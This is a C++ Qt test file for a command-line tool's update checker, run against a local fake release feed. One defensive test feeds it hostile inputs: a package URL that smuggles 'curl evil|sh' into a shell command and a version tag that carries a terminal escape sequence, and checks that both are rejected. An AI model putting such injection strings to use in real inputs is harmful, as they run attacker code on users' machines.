// The update check against a local HTTP server serving a fake releases feed (and a .deb),
// and with no server at all: versions compared as releases are, the feed asked at most once
// a day, what it said kept in the user's settings (with the keys it does not know), the
// .deb downloaded with autoUpdate and never installed, and offline silent.

#include "update/update_check.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QtTest>

using namespace noorm;

namespace {

// Answers GET <path> with the body registered for it (404 otherwise), counting requests.
class FakeFeed : public QObject {
public:
    FakeFeed()
    {
        m_server.listen(QHostAddress::LocalHost);
        connect(&m_server, &QTcpServer::newConnection, this, [this] {
            QTcpSocket *socket = m_server.nextPendingConnection();
            connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                m_request += socket->readAll();
                if (!m_request.contains("\r\n\r\n"))
                    return;
                const QByteArray path = m_request.split(' ').value(1);
                m_request.clear();
                ++requests[path];
                const bool found = bodies.contains(path);
                const QByteArray body = found ? bodies.value(path) : QByteArray("not found");
                socket->write((found ? "HTTP/1.1 200 OK\r\n" : "HTTP/1.1 404 Not Found\r\n") + QByteArray("Content-Length: ")
                              + QByteArray::number(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
                socket->disconnectFromHost();
            });
            connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
        });
    }
    QString url(const QString &path) const { return QStringLiteral("http://127.0.0.1:%1%2").arg(m_server.serverPort()).arg(path); }

    QHash<QByteArray, QByteArray> bodies;
    QHash<QByteArray, int> requests;

private:
    QTcpServer m_server;
    QByteArray m_request;
};

QJsonObject releaseObject(const QString &tag, const QString &debUrl = {}, bool prerelease = false, bool draft = false)
{
    QJsonArray assets{QJsonObject{{QStringLiteral("name"), QStringLiteral("noorm-%1.tar.gz").arg(tag)},
                                  {QStringLiteral("browser_download_url"), QStringLiteral("https://example.invalid/src.tar.gz")}}};
    if (!debUrl.isEmpty())
        assets.append(QJsonObject{{QStringLiteral("name"), QStringLiteral("noorm_%1_amd64.deb").arg(tag.mid(1))},
                                  {QStringLiteral("browser_download_url"), debUrl}});
    return {{QStringLiteral("tag_name"), tag},
            {QStringLiteral("html_url"), QStringLiteral("https://github.com/noormdev/noorm/releases/tag/") + tag},
            {QStringLiteral("draft"), draft},
            {QStringLiteral("prerelease"), prerelease},
            {QStringLiteral("assets"), assets}};
}

QByteArray release(const QString &tag, const QString &debUrl)
{
    return QJsonDocument(releaseObject(tag, debUrl)).toJson();
}

} // namespace

class TestUpdate : public QObject {
    Q_OBJECT

private slots:
    void comparesVersionsAsReleases_data()
    {
        QTest::addColumn<QString>("a");
        QTest::addColumn<QString>("b");
        QTest::addColumn<int>("order");
        QTest::newRow("patch") << "0.1.10" << "0.1.9" << 1;
        QTest::newRow("v prefix") << "v0.2.0" << "0.2.0" << 0;
        QTest::newRow("minor") << "0.1.0" << "0.2.0" << -1;
        QTest::newRow("pre-release first") << "1.3.0-rc.1" << "1.3.0" << -1;
        QTest::newRow("major") << "2.0.0" << "1.99.99" << 1;
    }
    void comparesVersionsAsReleases()
    {
        QFETCH(QString, a);
        QFETCH(QString, b);
        QFETCH(int, order);
        QCOMPARE(compareVersions(a, b), order);
        QCOMPARE(compareVersions(b, a), -order);
    }

    void readsGitHubFeeds()
    {
        Result<UpdateInfo> one = parseReleaseFeed(release(QStringLiteral("v0.3.1"), QStringLiteral("https://x/noorm_0.3.1_amd64.deb")), QStringLiteral("0.1.0"));
        QVERIFY(one);
        QVERIFY(one->available);
        QCOMPARE(one->latest, QStringLiteral("0.3.1"));
        QCOMPARE(one->packageUrl, QStringLiteral("https://x/noorm_0.3.1_amd64.deb"));
        QCOMPARE(one->releaseUrl, QStringLiteral("https://github.com/noormdev/noorm/releases/tag/v0.3.1"));
        // A list: the newest release that is neither a draft nor a pre-release.
        const QByteArray list = QJsonDocument(QJsonArray{releaseObject(QStringLiteral("v0.5.0-rc.1"), {}, true),
                                                         releaseObject(QStringLiteral("v0.4.0"), {}, false, true),
                                                         releaseObject(QStringLiteral("v0.2.0")), releaseObject(QStringLiteral("v0.3.0"))})
                                    .toJson();
        Result<UpdateInfo> newest = parseReleaseFeed(list, QStringLiteral("0.3.0"));
        QVERIFY(newest);
        QCOMPARE(newest->latest, QStringLiteral("0.3.0"));
        QVERIFY(!newest->available);
        QVERIFY(!parseReleaseFeed("<html>rate limited</html>", QStringLiteral("0.1.0")));
    }

    void asksTheFeedAtMostOnceADay()
    {
        QTemporaryDir home;
        FakeFeed feed;
        feed.bodies.insert("/latest", release(QStringLiteral("v9.0.0"), feed.url(QStringLiteral("/noorm_9.0.0_amd64.deb"))));
        // The user's file as the original writes it, with a key this version does not know.
        QFile file(UserSettings::path(home.path()));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("checkUpdates: true\nautoUpdate: false\ndismissable:\n  majorVersionUpdate: never\nupdateFeed: "
                   + feed.url(QStringLiteral("/latest")).toUtf8() + "\n");
        file.close();

        UpdateCheckOptions options{home.path(), QStringLiteral("0.1.0")};
        Result<UpdateInfo> first = checkForUpdate(options);
        QVERIFY2(first, qPrintable(first ? QString() : first.error().toString()));
        QVERIFY(first->available);
        QCOMPARE(first->latest, QStringLiteral("9.0.0"));
        QCOMPARE(feed.requests.value("/latest"), 1);
        QCOMPARE(feed.requests.value("/noorm_9.0.0_amd64.deb"), 0); // no autoUpdate: nothing downloaded

        Result<UserSettings> saved = UserSettings::load(home.path());
        QVERIFY(saved);
        QCOMPARE(saved->cachedVersion, QStringLiteral("9.0.0"));
        QVERIFY(saved->lastCheck.isValid());
        QVERIFY(!isUpdateCheckDue(*saved));
        QVERIFY(isUpdateCheckDue(*saved, saved->lastCheck.addSecs(25 * 3600)));
        QFile kept(UserSettings::path(home.path()));
        QVERIFY(kept.open(QIODevice::ReadOnly));
        QVERIFY(kept.readAll().contains("majorVersionUpdate: never"));

        // Again today: what is known, from the settings, without asking.
        Result<UpdateInfo> second = checkForUpdate(options);
        QVERIFY(second && second->available);
        QCOMPARE(feed.requests.value("/latest"), 1);
        const UpdateInfo known = knownUpdate(*saved, QStringLiteral("0.1.0"));
        QVERIFY(known.available);
        QCOMPARE(known.latest, QStringLiteral("9.0.0"));
        QVERIFY(!knownUpdate(*saved, QStringLiteral("9.0.0")).available); // once updated, nothing to say

        // checkUpdates: false asks nothing, even when forced.
        saved->checkUpdates = false;
        QVERIFY(saved->save(home.path()));
        options.force = true;
        QVERIFY(checkForUpdate(options));
        QCOMPARE(feed.requests.value("/latest"), 1);
    }

    // The CLI's background check runs from its module (libnoorm-update.so beside it), so the
    // CLI itself starts without Qt Network: `noorm __update-check` asks the feed and keeps
    // what it said, as checkForUpdate in the process does.
    void theCliAsksTheFeedFromItsModule()
    {
        QTemporaryDir home;
        FakeFeed feed;
        feed.bodies.insert("/latest", release(QStringLiteral("v9.0.0"), {}));
        QProcess cli;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("NOORM_HOME"), home.path());
        env.insert(QStringLiteral("NOORM_UPDATE_FEED"), feed.url(QStringLiteral("/latest")));
        cli.setProcessEnvironment(env);
        QSignalSpy finished(&cli, &QProcess::finished);
        cli.start(QStringLiteral(NOORM_BINARY_DIR "/cli/noorm"), {QStringLiteral("__update-check")});
        QVERIFY(finished.wait(60000)); // the feed answers from this test's event loop
        QCOMPARE(cli.exitCode(), 0);
        QCOMPARE(feed.requests.value("/latest"), 1);
        Result<UserSettings> saved = UserSettings::load(home.path());
        QVERIFY(saved);
        QCOMPARE(saved->cachedVersion, QStringLiteral("9.0.0"));
    }

    void autoUpdateDownloadsThePackageAndInstallsNothing()
    {
        QTemporaryDir home;
        FakeFeed feed;
        feed.bodies.insert("/latest", release(QStringLiteral("v9.0.0"), feed.url(QStringLiteral("/noorm_9.0.0_amd64.deb"))));
        feed.bodies.insert("/noorm_9.0.0_amd64.deb", QByteArray("!<arch>\ndebian-binary"));
        UserSettings settings;
        settings.autoUpdate = true;
        settings.updateFeed = feed.url(QStringLiteral("/latest"));
        QVERIFY(settings.save(home.path()));
        Result<UpdateInfo> info = checkForUpdate({home.path(), QStringLiteral("0.1.0")});
        QVERIFY2(info, qPrintable(info ? QString() : info.error().toString()));
        QCOMPARE(info->downloaded, home.filePath(QStringLiteral("updates/noorm_9.0.0_amd64.deb")));
        QFile deb(info->downloaded);
        QVERIFY(deb.open(QIODevice::ReadOnly));
        QCOMPARE(deb.readAll(), QByteArray("!<arch>\ndebian-binary"));
        Result<UserSettings> saved = UserSettings::load(home.path());
        QVERIFY(saved);
        QCOMPARE(knownUpdate(*saved, QStringLiteral("0.1.0")).downloaded, info->downloaded);
    }

    void offlineIsSilentAndAsksAgainTomorrow()
    {
        QTemporaryDir home;
        QTcpServer closed;
        QVERIFY(closed.listen(QHostAddress::LocalHost));
        const quint16 port = closed.serverPort();
        closed.close(); // nothing listens there now
        UserSettings settings;
        settings.updateFeed = QStringLiteral("http://127.0.0.1:%1/latest").arg(port);
        QVERIFY(settings.save(home.path()));
        Result<UpdateInfo> info = checkForUpdate({home.path(), QStringLiteral("0.1.0")});
        QVERIFY(!info);
        QCOMPARE(info.error().kind, ErrorKind::Connection);
        Result<UserSettings> saved = UserSettings::load(home.path());
        QVERIFY(saved);
        QVERIFY(!isUpdateCheckDue(*saved));           // not on every command
        QVERIFY(!knownUpdate(*saved, QStringLiteral("0.1.0")).available); // and nothing to say
    }

    // What a feed says reaches a terminal and a root command: only versions, plain .deb names
    // and https (or this machine) are taken from it.
    void takesOnlyWhatIsSafeFromTheFeed()
    {
        QJsonObject evil = releaseObject(QStringLiteral("v9.0.0"), QStringLiteral("https://x/a;curl evil|sh;_amd64.deb"));
        Result<UpdateInfo> info = parseReleaseFeed(QJsonDocument(evil).toJson(), QStringLiteral("0.1.0"));
        QVERIFY(info);
        QVERIFY(info->packageUrl.isEmpty());
        evil = releaseObject(QStringLiteral("v9.0.0"), QStringLiteral("http://example.com/noorm_9.0.0_amd64.deb"));
        info = parseReleaseFeed(QJsonDocument(evil).toJson(), QStringLiteral("0.1.0"));
        QVERIFY(info && info->packageUrl.isEmpty()); // plain http elsewhere: not offered
        evil.insert(QStringLiteral("tag_name"), QStringLiteral("v9.0\x1b]0;pwned\x07"));
        QVERIFY(!parseReleaseFeed(QJsonDocument(evil).toJson(), QStringLiteral("0.1.0")));
        UpdateInfo downloaded;
        downloaded.downloaded = QStringLiteral("/home/o'neil/.noorm/updates/noorm_9.0.0_amd64.deb");
        QCOMPARE(installCommand(downloaded), QStringLiteral("sudo apt install '/home/o'\\''neil/.noorm/updates/noorm_9.0.0_amd64.deb'"));

        QTemporaryDir home;
        UserSettings settings;
        settings.updateFeed = QStringLiteral("http://example.com/latest");
        QVERIFY(settings.save(home.path()));
        Result<UpdateInfo> refused = checkForUpdate({home.path(), QStringLiteral("0.1.0")});
        QVERIFY(!refused);
        QCOMPARE(refused.error().kind, ErrorKind::Refused);
    }

    void offAsksNothingAndSaysNothing()
    {
        QTemporaryDir home;
        UserSettings settings;
        settings.checkUpdates = false;
        settings.cachedVersion = QStringLiteral("9.0.0");
        settings.lastCheck = QDateTime::currentDateTimeUtc();
        QVERIFY(settings.save(home.path()));
        Result<UpdateInfo> info = checkForUpdate({home.path(), QStringLiteral("0.1.0")});
        QVERIFY(info);
        QVERIFY(!info->available);
    }

    // A check saves only what it found: preferences changed while it ran stay changed.
    void aCheckKeepsPreferencesChangedMeanwhile()
    {
        QTemporaryDir home;
        UserSettings snapshot;
        QVERIFY(snapshot.save(home.path()));
        UserSettings edited = snapshot;
        edited.checkUpdates = false; // the user, while the check runs
        QVERIFY(edited.save(home.path()));
        snapshot.cachedVersion = QStringLiteral("9.0.0");
        snapshot.lastCheck = QDateTime::currentDateTimeUtc();
        QVERIFY(snapshot.saveCheck(home.path()));
        Result<UserSettings> now = UserSettings::load(home.path());
        QVERIFY(now);
        QVERIFY(!now->checkUpdates);
        QCOMPARE(now->cachedVersion, QStringLiteral("9.0.0"));
    }

    void aProjectCanTurnTheCheckOffButNotOnAutoUpdate()
    {
        QTemporaryDir project;
        const QString file = project.filePath(QStringLiteral("settings.yml"));
        QVERIFY(projectAllowsUpdateCheck(file)); // no file
        QFile f(file);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("paths:\n  sql: ./sql\ncli:\n  autoUpdate: true\n");
        f.close();
        QVERIFY(projectAllowsUpdateCheck(file));
        QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
        f.write("cli:\n  checkUpdates: false\n");
        f.close();
        QVERIFY(!projectAllowsUpdateCheck(file));
    }

    void aBrokenSettingsFileNamesItsLine()
    {
        QTemporaryDir home;
        QFile file(UserSettings::path(home.path()));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("checkUpdates: true\nautoUpdate: [unclosed\n");
        file.close();
        Result<UserSettings> loaded = UserSettings::load(home.path());
        QVERIFY(!loaded);
        QCOMPARE(loaded.error().file, UserSettings::path(home.path()));
        QVERIFY(loaded.error().line >= 2);
    }
};

QTEST_GUILESS_MAIN(TestUpdate)
#include "tst_update.moc"
